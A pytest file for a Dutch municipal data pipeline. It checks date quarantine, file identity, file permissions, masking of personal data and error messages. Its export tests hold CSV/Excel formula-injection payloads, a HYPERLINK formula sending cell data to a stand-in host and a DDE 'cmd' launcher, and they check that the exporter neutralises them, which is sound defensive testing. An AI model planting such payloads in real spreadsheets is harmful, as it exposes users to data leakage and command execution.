"""Issue 15, the safety items, case by case: no odd value stops a night, a touched file changes nothing,
no export holds a formula, private files are the owner's, the personal-data screen is wider, and the
messages say what is wrong.

Each test is a case of the issue, run as there on real files, a real DuckDB and the real `pipeline`
command (with the environment a cron job has, in this process by Typer's runner: `tests/support/cli.py`).
`docs/operations.md` ("Issue 15") records, per case, what the pipeline did before and does now.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import os
import re
import shutil
import stat
import subprocess
import zipfile
from pathlib import Path
from zoneinfo import ZoneInfo

import duckdb
import polars as pl
import pytest

from pipeline.core.settings import Settings
from pipeline.export import csv_safe
from pipeline.run import run
from tests.sources.afspraken.lines import APPT_HEADER, appointment
from tests.sources.telefonie.lines import CALL_HEADER_NO_PII, call
from tests.sources.zaken.lines import CASE_HEADER, case
from tests.support.cli import cli, one_line, problems
from tests.support.deliveries import settings_for, write
from tests.support.published import Figures, all_text, figures, rows

# ---------------------------------------------------------------------------------------------
# Item 1: dates in time
# ---------------------------------------------------------------------------------------------

ISSUE_HEADER = "gesprek_id;starttijd;nummer;keuze;wachtrij;afhandeling;wachttijd;gespreksduur"


def _issue_calls(first: str, count: int = 30, day: str = "2020-01-06", prefix: str = "o") -> list[str]:
    """The issue's file: one odd call first, then `count` ordinary ones."""
    ordinary = [f"{prefix}{i};{day}T09:00:00+01:00;14030;Utrecht;Algemeen;beantwoord;30;120" for i in range(count)]
    return [first, *ordinary]


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["nightly", "backfill"])
def test_item1_a_moment_no_date_can_hold_costs_its_row_not_every_night(tmp_path: Path, kind: str) -> None:
    s = settings_for(tmp_path)
    raw = s.raw_dir
    # The issue's case: 9999-12-30 among 30 ordinary calls. Then 0001-01-01, and a moment that an
    # offset carries past 9999-12-31, each in a file of its own.
    write(
        raw / "telefonie/telefonie_20200107.csv",
        ISSUE_HEADER,
        _issue_calls("y;9999-12-30T10:00:00+01:00;14030;Utrecht;Algemeen;beantwoord;30;120"),
    )
    write(
        raw / "telefonie/telefonie_20200107_b.csv",
        ISSUE_HEADER,
        _issue_calls("z;0001-01-01T00:00:00+01:00;14030;Utrecht;Algemeen;beantwoord;30;120", prefix="b"),
    )
    write(
        raw / "telefonie/telefonie_20200107_c.csv",
        ISSUE_HEADER,
        _issue_calls("x;9999-12-31T23:30:00-01:00;14030;Utrecht;Algemeen;beantwoord;30;120", prefix="c"),
    )

    done = cli(kind, "--raw", raw, "--warehouse", s.warehouse)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr and "OverflowError" not in done.stderr
    assert "3 deliveries processed, 0 rejected" in done.stderr
    quarantined = rows(s.warehouse, "SELECT bestand, regel, kolom, reden, waarde FROM quarantaine ORDER BY bestand")
    assert quarantined == [
        {
            "bestand": "telefonie/telefonie_20200107.csv",
            "regel": 2,
            "kolom": "starttijd",
            "reden": "na exportdag",
            "waarde": "9999-12-30T10:00:00+01:00",
        },
        {
            "bestand": "telefonie/telefonie_20200107_b.csv",
            "regel": 2,
            "kolom": "starttijd",
            "reden": "voor 2000",
            "waarde": "0001-01-01T00:00:00+01:00",
        },
        {
            "bestand": "telefonie/telefonie_20200107_c.csv",
            "regel": 2,
            "kolom": "starttijd",
            "reden": "na exportdag",
            "waarde": "9999-12-31T23:30:00-01:00",
        },
    ]
    assert rows(s.warehouse, "SELECT jaar, telefoontjes_gemeente FROM kerncijfers") == [
        {"jaar": 2020, "telefoontjes_gemeente": 90}
    ]
    # The next night goes as well.
    again = cli("nightly", "--raw", raw, "--warehouse", s.warehouse)
    assert again.returncode == 0, again.stderr


def _weekday_calls(raw: Path, first: dt.date, last: dt.date) -> None:
    """One call on every weekday, each delivered the next day in its own file."""
    day = first
    while day <= last:
        if day.weekday() < 5:
            write(
                raw / f"telefonie/telefonie_{day + dt.timedelta(days=1):%Y%m%d}.csv",
                CALL_HEADER_NO_PII,
                [call(f"c{day:%Y%m%d}", f"{day}T10:00:00+01:00")[:-1]],
            )
        day += dt.timedelta(days=1)


def _backfilled_quarantine(s: Settings) -> list[dict[str, object]]:
    """A backfill that rejects no file for its invalid rows; the quarantine's line, column and reason."""
    done = cli("backfill", "--raw", s.raw_dir, "--warehouse", s.warehouse, PIPELINE_MAX_INVALID_SHARE="1")
    assert done.returncode == 0, done.stderr
    return rows(s.warehouse, "SELECT regel, kolom, reden FROM quarantaine ORDER BY regel")


@pytest.mark.slow
def test_item1_future_and_epoch_moments_are_invalid_and_the_source_is_judged_stale(tmp_path: Path) -> None:
    s = settings_for(tmp_path)
    _weekday_calls(s.raw_dir, dt.date(2020, 1, 6), dt.date(2020, 1, 10))
    odd = [call("future", "2031-03-16T09:00:00+01:00")[:-1], call("epoch", "1970-01-01T00:00:00+01:00")[:-1]]
    write(s.raw_dir / "telefonie/telefonie_20200108_odd.csv", CALL_HEADER_NO_PII, odd)
    assert _backfilled_quarantine(s) == [
        {"regel": 2, "kolom": "starttijd", "reden": "na exportdag"},
        {"regel": 3, "kolom": "starttijd", "reden": "voor 2000"},
    ]
    assert rows(s.warehouse, "SELECT jaar, telefoontjes_gemeente FROM kerncijfers") == [
        {"jaar": 2020, "telefoontjes_gemeente": 5}
    ]
    fresh = rows(s.warehouse, "SELECT laatste_dag_met_gegevens FROM versheid WHERE bron = 'telefonie'")
    assert fresh == [{"laatste_dag_met_gegevens": dt.date(2020, 1, 10)}]
    assert rows(s.warehouse, "SELECT * FROM ontbrekende_leveringen") == []

    # Judged three weeks later: stale, the days counted forwards, no missing day before 2020.
    status = cli("status", "--warehouse", s.warehouse, "--today", "2020-02-01")
    assert status.returncode == 3, status.stdout
    assert "telefonie: last day with records 2020-01-10 (22 days ago)" in status.stdout
    assert problems(status.stdout) == ["telefonie is stale: no records for 15 open days since 2020-01-10 (allowed: 3)"]


@pytest.mark.slow
def test_item1_appointments_ahead_count_but_do_not_make_a_source_fresh(tmp_path: Path) -> None:
    s = settings_for(tmp_path)
    visits = [appointment(f"v{i}", "06-01-2020", gewijzigd="2020-01-06T17:00:00+01:00") for i in range(3)]
    booked = "2020-01-06T12:00:00+01:00"
    visits += [
        appointment("ahead", "06-01-2022", status="gepland", gewijzigd=booked),  # two years ahead: valid
        appointment("too-far", "07-01-2022", status="gepland", gewijzigd=booked),
        appointment("old", "31-12-1999", gewijzigd=booked),
        appointment("later", "06-01-2020", gewijzigd="2020-01-07T00:00:00+01:00"),
    ]
    write(s.raw_dir / "afspraken/afspraken_20200106.csv", APPT_HEADER, visits)
    assert _backfilled_quarantine(s) == [
        {"regel": 6, "kolom": "datum", "reden": "te ver vooruit"},
        {"regel": 7, "kolom": "datum", "reden": "voor 2000"},
        {"regel": 8, "kolom": "gewijzigd", "reden": "na exportdag"},
    ]
    assert rows(s.warehouse, "SELECT jaar, afspraken_totaal FROM kerncijfers ORDER BY jaar") == [
        {"jaar": 2020, "afspraken_totaal": 3},
        {"jaar": 2022, "afspraken_totaal": 1},
    ]
    # The booking for 2022 says nothing of whether the system still delivers: the last day with
    # records is the export day's, and the two years between are not missing deliveries.
    fresh = rows(s.warehouse, "SELECT laatste_dag_met_gegevens FROM versheid WHERE bron = 'afspraken'")
    assert fresh == [{"laatste_dag_met_gegevens": dt.date(2020, 1, 6)}]
    assert rows(s.warehouse, "SELECT * FROM ontbrekende_leveringen") == []
    status = cli("status", "--warehouse", s.warehouse, "--today", "2020-01-20")
    assert "afspraken is stale: no records for 9 open days since 2020-01-06 (allowed: 3)" in problems(status.stdout)


@pytest.mark.slow
def test_item1_a_file_that_names_a_day_to_come_is_read_once_that_day_has_come(tmp_path: Path) -> None:
    s = settings_for(tmp_path)
    tomorrow = dt.datetime.now(ZoneInfo("Europe/Amsterdam")).date() + dt.timedelta(days=1)
    name = f"telefonie/telefonie_{tomorrow:%Y%m%d}.csv"
    write(s.raw_dir / name, CALL_HEADER_NO_PII, [call("c1", "2020-01-06T10:00:00+01:00")[:-1]])
    summary = run(s, "nightly")
    assert summary.processed == 0
    assert ("genegeerd", name, "exportdatum_na_vandaag") in summary.notices


# ---------------------------------------------------------------------------------------------
# Item 2: identity that survives `touch`
# ---------------------------------------------------------------------------------------------


def _some_deliveries(raw: Path) -> None:
    _weekday_calls(raw, dt.date(2020, 1, 6), dt.date(2020, 1, 8))
    write(raw / "afspraken/2020/afspraken_20200107.csv", APPT_HEADER, [appointment("a1", "06-01-2020")])
    write(raw / "zaken/zaken_20200107.csv", CASE_HEADER, [case("z1", "2020-01-06T10:00:00+01:00")])


def _touch(raw: Path, tmp: Path) -> Path:
    for path in raw.rglob("*.csv"):
        path.touch()
    return raw


def _copy_without_times(raw: Path, tmp: Path) -> Path:
    for path in raw.rglob("*.csv"):
        subprocess.run(["cp", str(path), str(tmp / "copy")], check=True)  # cp without -p: a new mtime
        subprocess.run(["cp", str(tmp / "copy"), str(path)], check=True)
    return raw


def _restore_the_folder(raw: Path, tmp: Path) -> Path:
    subprocess.run(["cp", "-r", str(raw), str(tmp / "backup")], check=True)
    shutil.rmtree(raw)
    subprocess.run(["cp", "-r", str(tmp / "backup"), str(raw)], check=True)
    return raw


def _restore_to_a_new_path(raw: Path, tmp: Path) -> Path:
    subprocess.run(["cp", "-r", str(raw), str(tmp / "restored")], check=True)
    return tmp / "restored"


MISHAPS = {
    "touch": _touch,
    "cp without -p": _copy_without_times,
    "the landing folder copied away and back": _restore_the_folder,
    "the landing folder restored at a new path": _restore_to_a_new_path,
}


def _ledger_times(state_db: Path) -> dict[str, int]:
    con = duckdb.connect(str(state_db), read_only=True)
    try:
        found = con.execute("SELECT bestand, gewijzigd_ns FROM leveringen WHERE status = 'verwerkt'").fetchall()
    finally:
        con.close()
    return dict(found)


@pytest.fixture(scope="module")
def backfilled(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Figures]:
    """Some deliveries of every source, backfilled, and their figures; each test changes a copy."""
    root = tmp_path_factory.mktemp("backfilled")
    s = settings_for(root)
    _some_deliveries(s.raw_dir)
    first = cli("backfill", "--raw", s.raw_dir, "--warehouse", s.warehouse)
    assert first.returncode == 0, first.stderr
    return root, figures(s.warehouse)


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["nightly", "backfill"])
@pytest.mark.parametrize("mishap", list(MISHAPS))
def test_item2_same_path_and_bytes_is_the_same_delivery_whatever_its_time(
    tmp_path: Path, mishap: str, kind: str, backfilled: tuple[Path, Figures]
) -> None:
    ready, before = backfilled
    shutil.copytree(ready, tmp_path / "landing")  # file times kept: as the ledger knows them
    s = settings_for(tmp_path / "landing")

    raw = MISHAPS[mishap](s.raw_dir, tmp_path)
    times = {p.relative_to(raw).as_posix(): p.stat().st_mtime_ns for p in raw.rglob("*.csv")}
    assert times != _ledger_times(s.state_db)  # every file has another time than the ledger knows
    done = cli(kind, "--raw", raw, "--warehouse", s.warehouse)
    assert done.returncode == 0, done.stderr
    assert figures(s.warehouse) == before
    if kind == "nightly":
        assert "nightly: 0 deliveries processed" in done.stderr
    # The ledger knows the files by their new times: the next runs hash nothing, and agree.
    assert _ledger_times(s.state_db) == times
    for then in ["backfill", "nightly"] if kind == "nightly" else ["nightly"]:
        again = cli(then, "--raw", raw, "--warehouse", s.warehouse)
        assert again.returncode == 0, again.stderr
        assert figures(s.warehouse) == before
    assert "nightly: 0 deliveries processed" in again.stderr
    assert rows(s.warehouse, "SELECT DISTINCT status FROM leveringen") == [{"status": "verwerkt"}]


# ---------------------------------------------------------------------------------------------
# Item 3: exports that cannot execute
# ---------------------------------------------------------------------------------------------

FORMULAS = ('=HYPERLINK("http://x"&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3")


def _quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


@pytest.mark.slow
def test_item3_delivered_text_is_written_as_text_never_as_a_formula(tmp_path: Path) -> None:
    s = settings_for(tmp_path)
    rare_below = 5
    # Each queue name on as many calls as makes it published, not grouped as rare.
    lines = [
        call(f"f{n}-{i}", f"2020-03-16T09:{n:02d}:{i:02d}+01:00", wachtrij=_quoted(value))[:-1]
        for n, value in enumerate(FORMULAS)
        for i in range(rare_below)
    ]
    write(s.raw_dir / "telefonie/telefonie_20200317.csv", CALL_HEADER_NO_PII, lines)
    done = cli("backfill", "--raw", s.raw_dir, "--warehouse", s.warehouse, PIPELINE_RARE_BELOW=str(rare_below))
    assert done.returncode == 0, done.stderr
    published = rows(s.warehouse, "SELECT DISTINCT wachtrij FROM telefonie_uitsplitsing ORDER BY ALL")
    assert {r["wachtrij"] for r in published} == set(FORMULAS)

    csv_dir, xlsx_dir = tmp_path / "csv", tmp_path / "xlsx"
    for fmt, folder in (("csv", csv_dir), ("xlsx", xlsx_dir)):
        exported = cli("export", "--warehouse", s.warehouse, "--format", fmt, "--out", folder)
        assert exported.returncode == 0, exported.stderr

    # csv: each text starts with the OWASP prefix; the numbers stay numbers.
    with (csv_dir / "telefonie_uitsplitsing.csv").open(newline="", encoding="utf-8") as handle:
        table = list(csv.DictReader(handle))
    assert {r["wachtrij"] for r in table} == {"'" + value for value in FORMULAS}
    assert all(r["aantal"].isdigit() for r in table)
    # xlsx: no cell is a formula, and every text is there as a string.
    with zipfile.ZipFile(next(xlsx_dir.iterdir())) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
        strings = book.read("xl/sharedStrings.xml").decode()
    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
    for value in FORMULAS:
        assert html.escape(value, quote=False) in strings, value
    assert not any("<hyperlink" in sheet for sheet in sheets)


def test_item3_csv_prefix_rule_covers_tab_and_carriage_return_and_leaves_numbers() -> None:
    frame = pl.DataFrame(
        {
            "tekst": [*FORMULAS, "\tx", "\rx", "Algemeen", "-5", "+31", "2,5", "a=b", None],
            "getal": [-2, -1, 0, 1, 2, 3, 4, -5, 31, 2, 0, None],
            "fractie": [-2.5] * 12,
        }
    )
    safe = csv_safe(frame)
    assert safe["tekst"].to_list() == [
        *("'" + v for v in FORMULAS),
        "'\tx",
        "'\rx",
        "Algemeen",
        "-5",
        "+31",
        "2,5",
        "a=b",
        None,
    ]
    assert safe.drop("tekst").equals(frame.drop("tekst"))


# ---------------------------------------------------------------------------------------------
# Item 5: owner-only files
# ---------------------------------------------------------------------------------------------


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


@pytest.mark.slow
@pytest.mark.parametrize("umask", [0o022, 0o000], ids=["umask 022", "umask 000"])
def test_item5_private_files_are_the_owners_whatever_the_umask(tmp_path: Path, umask: int) -> None:
    s = settings_for(tmp_path)
    _weekday_calls(s.raw_dir, dt.date(2020, 1, 6), dt.date(2020, 1, 7))
    write(s.raw_dir / "telefonie/telefonie_20200108_fout.csv", CALL_HEADER_NO_PII, [call("x", "later")[:-1]])
    # No PIPELINE_PII_KEY: the key file is made too.
    first = cli("backfill", "--raw", s.raw_dir, "--warehouse", s.warehouse, PIPELINE_PII_KEY=None, umask=umask)
    assert first.returncode == 0, first.stderr
    _weekday_calls(s.raw_dir, dt.date(2020, 1, 8), dt.date(2020, 1, 8))
    second = cli("nightly", "--raw", s.raw_dir, "--warehouse", s.warehouse, PIPELINE_PII_KEY=None, umask=umask)
    assert second.returncode == 0, second.stderr

    folder = s.warehouse.parent
    made = sorted(p for p in folder.rglob("*"))
    names = {p.relative_to(folder).as_posix() for p in made}
    assert {"w.duckdb", "w.state.duckdb", "w.key", "w.lock", "w.archief"} <= names
    exposed = {p.relative_to(folder).as_posix(): oct(_mode(p)) for p in made if p != s.warehouse and _mode(p) & 0o077}
    assert exposed == {}
    assert _mode(s.warehouse) == 0o644  # the published file: every BI reader reads it, only its owner writes
    assert _mode(s.key_file) == 0o600 and _mode(s.state_db) == 0o600 and _mode(s.lock_file) == 0o600
    assert _mode(s.archive_dir) == 0o700
    assert _mode(folder) == 0o755  # BI readers pass through the warehouse's folder


def test_item5_duckdb_makes_its_files_owner_only_while_the_state_database_is_open(tmp_path: Path) -> None:
    from pipeline.run import state

    s = settings_for(tmp_path)
    wal = s.state_db.with_name(s.state_db.name + ".wal")
    before = os.umask(0o000)
    try:
        with state.connect(s) as con:
            assert os.umask(0o077) == 0o077  # the process's umask while it is open (read by setting it again)
            con.execute("CHECKPOINT")
            con.execute("INSERT INTO meta VALUES ('probe', 'x')")  # a write: DuckDB makes its log anew
            assert wal.exists()
            assert _mode(wal) == 0o600 and _mode(s.state_db) == 0o600
        assert os.umask(0o000) == 0o000  # given back afterwards
    finally:
        os.umask(before)


@pytest.mark.slow
def test_item5_private_files_an_older_version_left_open_are_narrowed(tmp_path: Path) -> None:
    s = settings_for(tmp_path)
    _weekday_calls(s.raw_dir, dt.date(2020, 1, 6), dt.date(2020, 1, 6))
    assert cli("backfill", "--raw", s.raw_dir, "--warehouse", s.warehouse).returncode == 0
    for path in (s.state_db, s.lock_file):
        path.chmod(0o644)
    assert cli("nightly", "--raw", s.raw_dir, "--warehouse", s.warehouse).returncode == 0
    assert _mode(s.state_db) == 0o600 and _mode(s.lock_file) == 0o600


@pytest.mark.slow
@pytest.mark.parametrize("mode", [0o644, 0o640, 0o604])
def test_item5_a_key_file_others_can_read_is_refused_saying_how_to_fix_it(tmp_path: Path, mode: int) -> None:
    s = settings_for(tmp_path)
    _weekday_calls(s.raw_dir, dt.date(2020, 1, 6), dt.date(2020, 1, 6))
    s.key_file.parent.mkdir(parents=True)
    s.key_file.write_text("k" * 64)
    s.key_file.chmod(mode)
    for kind in ("nightly", "backfill"):
        done = cli(kind, "--raw", s.raw_dir, "--warehouse", s.warehouse, PIPELINE_PII_KEY=None)
        assert one_line(done) == (
            f"pipeline: the personal-data key file {s.key_file} can be read or changed by others (mode {mode:04o}); "
            f"make it the owner's only: chmod 600 {s.key_file}"
        )
    assert sorted(p.name for p in s.key_file.parent.iterdir()) == ["w.key"]  # nothing else was made
    s.key_file.chmod(0o600)
    assert cli("nightly", "--raw", s.raw_dir, "--warehouse", s.warehouse, PIPELINE_PII_KEY=None).returncode == 0


# ---------------------------------------------------------------------------------------------
# Item 6: a wider screen
# ---------------------------------------------------------------------------------------------

BSNS_IN_GROUPS = ("111-222-333", "111 222 333", "1112.22.333")  # 111222333 passes the eleven-test
PHONE_IN_NAME = "0611112222"
EMAIL_AS_HEADER = "jan.jansen@example.nl"


def test_item6_a_bsn_in_groups_in_free_text_is_never_published(tmp_path: Path) -> None:
    s = settings_for(tmp_path)
    lines = [
        call(f"b{n}-{i}", f"2020-03-16T10:{n:02d}:{i:02d}+01:00", wachtrij=bsn)[:-1]
        for n, bsn in enumerate(BSNS_IN_GROUPS)
        for i in range(6)  # seen 6 times: often enough to be published
    ]
    write(s.raw_dir / "telefonie/telefonie_20200317.csv", CALL_HEADER_NO_PII, lines)
    done = cli("backfill", "--raw", s.raw_dir, "--warehouse", s.warehouse, PIPELINE_RARE_BELOW="5")
    assert done.returncode == 0, done.stderr
    queues = rows(s.warehouse, "SELECT wachtrij, sum(aantal) AS n FROM telefonie_uitsplitsing GROUP BY 1")
    assert sorted(r["n"] for r in queues) == [6, 6, 6]
    assert all(r["wachtrij"].startswith("[bsn #") for r in queues), queues
    text = all_text(s.warehouse)
    assert not [bsn for bsn in BSNS_IN_GROUPS if bsn in text]


@pytest.mark.slow
def test_item6_file_and_header_names_are_screened_before_they_are_published_or_printed(tmp_path: Path) -> None:
    s = settings_for(tmp_path)
    named = f"telefonie/telefonie_20200108_{PHONE_IN_NAME}.csv"
    write(s.raw_dir / named, CALL_HEADER_NO_PII, [call("c1", "2020-01-07T10:00:00+01:00")[:-1]])
    header = f"{CALL_HEADER_NO_PII};{EMAIL_AS_HEADER}"
    write(s.raw_dir / "telefonie/telefonie_20200108_extra.csv", header, [call("c2", "2020-01-07T11:00:00+01:00")])
    twice = f"{CALL_HEADER_NO_PII};{EMAIL_AS_HEADER};{EMAIL_AS_HEADER.upper()}"
    write(s.raw_dir / "telefonie/telefonie_20200108_dubbel.csv", twice, [])
    write(s.raw_dir / f"telefonie/{PHONE_IN_NAME}.txt", CALL_HEADER_NO_PII, [])  # ignored: not a delivery's name
    write(s.raw_dir / f"telefonie/telefonie_20200108_{PHONE_IN_NAME}_leeg.csv", "", [])  # rejected: empty

    outputs = []
    for kind in ("backfill", "nightly"):
        done = cli(kind, "--raw", s.raw_dir, "--warehouse", s.warehouse)
        assert done.returncode == 0, done.stderr
        outputs.append(done.stdout + done.stderr)
    status = cli("status", "--warehouse", s.warehouse, "--today", "2020-01-09")
    outputs.append(status.stdout + status.stderr)
    assert "nightly: 0 deliveries processed" in outputs[1]  # the ledger still knows the files by their paths
    for where, text in (
        ("the runs' and status's output", "\n".join(outputs)),
        ("the published file", all_text(s.warehouse)),
    ):
        assert PHONE_IN_NAME not in text, where
        assert EMAIL_AS_HEADER not in text.lower(), where
    shown = {r["bestand"]: r for r in rows(s.warehouse, "SELECT * FROM leveringen")}
    masked = next(name for name in shown if name.startswith("telefonie/telefonie_20200108_[telefoonnummer #"))
    assert masked.endswith("].csv") and shown[masked]["status"] == "verwerkt"
    extra = shown["telefonie/telefonie_20200108_extra.csv"]["extra_kolommen"]
    assert re.fullmatch(r"\[e-mailadres #[0-9a-f]{12}\]", extra), extra
    twice_reason = shown["telefonie/telefonie_20200108_dubbel.csv"]["reden"]
    assert re.fullmatch(r"column '\[e-mailadres #[0-9a-f]{12}\]' appears twice in the header", twice_reason)
    notices = rows(s.warehouse, "SELECT DISTINCT soort, bestand FROM meldingen ORDER BY ALL")
    assert [n["soort"] for n in notices] == ["afgewezen", "afgewezen", "genegeerd"]
    assert all("[telefoonnummer #" in n["bestand"] for n in notices if n["soort"] == "genegeerd")
    # The private ledger keeps the real paths: they identify the files.
    con = duckdb.connect(str(s.state_db), read_only=True)
    try:
        private = {path for (path,) in con.execute("SELECT bestand FROM leveringen").fetchall()}
    finally:
        con.close()
    assert named in private


@pytest.mark.slow
def test_item6_a_command_without_the_key_still_publishes_no_name_in_clear(tmp_path: Path) -> None:
    s = settings_for(tmp_path)
    named = f"telefonie/telefonie_20200108_{PHONE_IN_NAME}.csv"
    write(s.raw_dir / named, CALL_HEADER_NO_PII, [call("c1", "2020-01-07T10:00:00+01:00")[:-1]])
    _weekday_calls(s.raw_dir, dt.date(2020, 1, 6), dt.date(2020, 1, 6))
    assert cli("backfill", "--raw", s.raw_dir, "--warehouse", s.warehouse).returncode == 0
    # withdraw needs no personal-data key, and this machine has none (no variable, no key file)
    done = cli("withdraw", "--warehouse", s.warehouse, "--file", named, "--reason", "test", PIPELINE_PII_KEY=None)
    assert done.returncode == 0, done.stderr
    assert not s.key_file.exists()
    assert PHONE_IN_NAME not in all_text(s.warehouse)
    shown = {r["bestand"]: r["status"] for r in rows(s.warehouse, "SELECT bestand, status FROM leveringen")}
    assert shown["telefonie/telefonie_20200108_[telefoonnummer].csv"] == "ingetrokken"


# ---------------------------------------------------------------------------------------------
# Item 9 (parts): messages that say what is wrong
# ---------------------------------------------------------------------------------------------


def _xlsx_bytes() -> bytes:
    import io

    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer)
    sheet = book.add_worksheet()
    for column, name in enumerate(ISSUE_HEADER.split(";")):
        sheet.write_string(0, column, name)
    book.close()
    return buffer.getvalue()


def _zip_bytes() -> bytes:
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("telefonie_20200107.csv", ISSUE_HEADER + "\n")
    return buffer.getvalue()


NOT_CSV = "not CSV text; deliveries are ;-separated text (export the sheet as CSV)"
WRONG_FILES = {
    "telefonie_20200107_komma.csv": (
        (
            ISSUE_HEADER.replace(";", ",")
            + "\n"
            + _issue_calls("x;2020-01-06T10:00:00+01:00;14030;Utrecht;A;verbroken;3;0")[1].replace(";", ",")
            + "\n"
        ).encode(),
        "the file looks comma-separated (',' between the header's columns); the agreement asks for ';'",
    ),
    "telefonie_20200107_tab.csv": (
        (ISSUE_HEADER.replace(";", "\t") + "\n").encode(),
        "the file looks tab-separated ('\\t' between the header's columns); the agreement asks for ';'",
    ),
    "telefonie_20200107_excel.csv": (_xlsx_bytes(), f"an Excel workbook (.xlsx, a ZIP archive), {NOT_CSV}"),
    "telefonie_20200107_zip.csv": (_zip_bytes(), f"a ZIP archive (bytes 50 4B 03 04 'PK'), {NOT_CSV}"),
    "telefonie_20200107_xls.csv": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 8,
        f"an old Excel workbook (.xls) or another Office file (OLE2, bytes D0 CF 11 E0), {NOT_CSV}",
    ),
}


def test_item9_a_file_of_another_shape_is_named_for_what_it_is(tmp_path: Path) -> None:
    s = settings_for(tmp_path)
    for name, (data, _) in WRONG_FILES.items():
        (s.raw_dir / "telefonie").mkdir(parents=True, exist_ok=True)
        (s.raw_dir / "telefonie" / name).write_bytes(data)
    done = cli("nightly", "--raw", s.raw_dir, "--warehouse", s.warehouse)
    assert done.returncode == 0, done.stderr
    for name, (_, reason) in WRONG_FILES.items():
        assert f"  rejected telefonie/{name}: {reason}\n" in done.stderr
    assert "is missing" not in done.stderr and "neither UTF-8" not in done.stderr
    ledger = rows(s.warehouse, "SELECT bestand, status, reden FROM leveringen ORDER BY bestand")
    assert {r["bestand"]: (r["status"], r["reden"]) for r in ledger} == {
        f"telefonie/{name}": ("afgewezen", reason) for name, (_, reason) in WRONG_FILES.items()
    }


@pytest.mark.parametrize("address", ["notaurl", "tcp://scheduler", "http://10.0.0.5:8786", "tcp://10.0.0.5:99999"])
def test_item9_a_dask_address_that_is_none_is_refused_in_one_line(tmp_path: Path, address: str) -> None:
    s = settings_for(tmp_path)
    s.raw_dir.mkdir(parents=True)
    done = cli("backfill", "--raw", s.raw_dir, "--warehouse", s.warehouse, "--dask-address", address)
    assert one_line(done) == (
        f"pipeline: --dask-address {address!r} is not the address of a Dask scheduler: give tcp://HOST:PORT, as "
        "'dask scheduler' prints it (for example tcp://10.0.0.5:8786; tls:// for a cluster with TLS)"
    )
    assert not s.warehouse.parent.exists()


@pytest.mark.slow
@pytest.mark.parametrize("where", ["inside the landing folder", "below a source's folder", "the landing folder itself"])
def test_item9_a_warehouse_in_the_landing_folder_is_refused_before_anything_is_made(tmp_path: Path, where: str) -> None:
    raw = tmp_path / "raw"
    _weekday_calls(raw, dt.date(2020, 1, 6), dt.date(2020, 1, 6))
    warehouse = {
        "inside the landing folder": raw / "wh" / "w.duckdb",
        "below a source's folder": raw / "telefonie" / "w.duckdb",
        "the landing folder itself": raw,
    }[where]
    before = sorted(raw.rglob("*"))
    for kind in ("nightly", "backfill"):
        done = cli(kind, "--raw", raw, "--warehouse", warehouse, PIPELINE_PII_KEY=None)
        assert one_line(done) == (
            f"pipeline: the warehouse {warehouse} is inside the landing folder {raw}: its own files (key, lock, "
            "archive) would be taken for deliveries; give a warehouse outside the landing folder"
        )
    assert sorted(raw.rglob("*")) == before  # no key, lock, archive or database
    # A warehouse beside the landing folder, whose name starts the same, is no problem.
    beside = cli("nightly", "--raw", raw, "--warehouse", tmp_path / "raw-wh" / "w.duckdb")
    assert beside.returncode == 0, beside.stderr
